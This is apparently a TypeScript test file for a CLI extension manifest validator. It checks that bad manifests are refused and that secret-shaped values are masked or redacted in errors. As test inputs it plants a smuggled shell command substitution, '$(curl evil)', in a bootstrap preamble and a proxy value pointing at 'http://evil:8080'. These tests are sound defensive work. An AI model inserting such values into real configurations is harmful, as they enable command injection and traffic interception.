import t from 'tap';
import { looksLikeSecret, redactSecrets, secretKind } from '../../src/audit/secret-shape.js';
import {
  type ManifestProblem,
  defineCli,
  defineExtension,
  extensionJsonSchema,
  parseExtensionManifest,
} from '../../src/manifest/index.js';
import { atlassianExtension, azCli, azExtension, ghCli, ghExtension, thrown } from './fixtures.js';
import { NOT_SECRETS, SECRET_SAMPLES } from './samples.js';

t.test('one manifest with five problems reports all five', async (t) => {
  const m = azExtension();
  const az = m.clis[0]!;
  az.env = { HTTPS_PROXY: 'http://evil:8080', AZURE_TOKEN_HINT: SECRET_SAMPLES.JWT! };
  az.credentialHosts!.push({ hosts: ['Login.Microsoftonline.com'] });
  az.bootstrap!.preamble.push('$(curl evil)');
  m.clis.push({ ...azCli() });
  const e = thrown(() => defineExtension(m));
  const problems = e.details!.problems as ManifestProblem[];
  t.same(
    problems.map((p) => `${p.code} ${p.path}`).sort(),
    [
      'MANIFEST_CREDENTIAL_HOST_NOT_DNS clis[0].credentialHosts[2].hosts[0]',
      'MANIFEST_DUPLICATE_CLI_ID clis[1].id',
      'MANIFEST_ENV_NAME_RESERVED clis[0].env.HTTPS_PROXY',
      'MANIFEST_ENV_VALUE_SECRET clis[0].env.AZURE_TOKEN_HINT',
      'MANIFEST_PREAMBLE_SHELL_METACHARACTER clis[0].bootstrap.preamble[9]',
    ].sort(),
  );
  t.match(e.message, /^MANIFEST_INVALID: extension manifest "azure" was refused: .* \(and 4 more\)/);
});

t.test('a problem carries the value, truncated, with secrets masked everywhere', async (t) => {
  const m = atlassianExtension();
  const secret = SECRET_SAMPLES['GitHub classic token (ghp_)']!;
  m.clis[0]!.env = { JIRA_SETTING: secret, JIRA_NOTE: 'n'.repeat(2000) };
  const e = thrown(() => defineExtension(m));
  const problems = e.details!.problems as ManifestProblem[];
  const bySecret = problems.find((p) => p.code === 'MANIFEST_ENV_VALUE_SECRET')!;
  t.equal(bySecret.value, `<masked github-token, ${secret.length} chars>`);
  const long = problems.find((p) => p.code === 'MANIFEST_ENV_VALUE_TOO_LONG')!;
  t.ok(long.value!.length < 120, 'long values are cut');
  t.match(long.value, /\(2000 chars\)$/);
  const everything = JSON.stringify({ m: e.message, d: e.details, s: (e as unknown as Error).stack });
  t.notOk(everything.includes(secret), 'the secret appears nowhere in the error');
  t.notOk(everything.includes(secret.slice(4, 20)), 'not even a fragment of it');
});

t.test('valid manifests modelled on gh, az and curl', async (t) => {
  const gh = defineExtension(ghExtension());
  t.same(gh.clis[0]!.credentialEnv, ['GH_TOKEN', 'GH_ENTERPRISE_TOKEN']);
  t.equal(gh.clis[0]!.endpointEnv, 'GH_HOST');
  const az = defineExtension(azExtension());
  t.same(
    az.clis[0]!.credentialHosts!.map((e) => e.hosts[0]),
    ['management.azure.com', 'graph.microsoft.com'],
  );
  const atl = defineExtension(atlassianExtension());
  t.equal(atl.clis[0]!.credentialHosts!.length, 1, 'api.media.atlassian.com gets no credential');
});

t.test('defineCli checks a CLI on its own; egress and toolkit wait for defineExtension', async (t) => {
  t.doesNotThrow(() => defineCli(ghCli()));
  const az = azCli();
  az.credentialHosts![0]!.hosts.push('not-in-any-egress.example.com');
  t.doesNotThrow(() => defineCli(az), 'no egress context yet');
  const bad = { ...ghCli(), env: { PATH: '/tmp' } };
  const e = thrown(() => defineCli(bad));
  t.same(
    (e.details!.problems as ManifestProblem[]).map((p) => p.path),
    ['env.PATH'],
  );
  t.match(e.message, /CLI manifest "gh"/);
});

t.test('JSON: text or parsed, a validated copy; unparseable text is one problem', async (t) => {
  const text = JSON.stringify(azExtension());
  const parsed = parseExtensionManifest(text);
  t.same(parsed, azExtension());
  const e = thrown(() => parseExtensionManifest('{"id": '));
  t.same(
    (e.details!.problems as ManifestProblem[]).map((p) => [p.code, p.path]),
    [['MANIFEST_FIELD_INVALID', '(root)']],
  );
  const e2 = thrown(() => parseExtensionManifest([]));
  t.equal(e2.code, 'MANIFEST_INVALID');
});

t.test('a hostile help tree is walked without recursion', async (t) => {
  const m = ghExtension();
  let node: { name: string; commands?: unknown[] } = { name: 'leaf' };
  for (let i = 0; i < 20_000; i++) node = { name: `n${i}`, commands: [node] };
  m.clis[0]!.helpTree = { commands: [node as never] };
  const e = thrown(() => defineExtension(m));
  const codes = (e.details!.problems as ManifestProblem[]).map((p) => p.code);
  t.ok(codes.includes('MANIFEST_HELP_TREE_TOO_DEEP'));
  t.ok(codes.includes('MANIFEST_HELP_TREE_TOO_MANY_COMMANDS'));
});

t.test('secret-shaped detection: every sample matches, ordinary values do not', async (t) => {
  for (const [label, v] of Object.entries(SECRET_SAMPLES)) t.ok(looksLikeSecret(v), label);
  for (const v of NOT_SECRETS) t.notOk(secretKind(v), `not a secret: ${v} (${secretKind(v)})`);
  const line = `GET /repos/x?token=${SECRET_SAMPLES['GitHub classic token (ghp_)']} and ${SECRET_SAMPLES['PEM private key block']} end`;
  t.equal(redactSecrets(line), 'GET /repos/x?token=[REDACTED] and [REDACTED] end');
});

t.test('the JSON Schema describes the shape', async (t) => {
  const s = extensionJsonSchema() as { properties: Record<string, unknown>; required: string[] };
  t.ok(s.properties.clis && s.properties.egress);
  t.ok(s.required.includes('id'));
});

t.test('literal manifests type-check and keep their literal types', async (t) => {
  const cli = defineCli({
    id: 'jq',
    binary: { image: 'base', entrypoint: '/usr/bin/curl' },
    credentialEnv: ['API_TOKEN'],
    authScheme: 'bearer',
  });
  const ext = defineExtension({
    id: 'acme',
    egress: ['api.acme.example'],
    toolkits: { acme: { credential: 'auth.default' } },
    clis: [cli],
  });
  const scheme: 'bearer' = ext.clis[0].authScheme;
  t.equal(scheme, 'bearer');
});
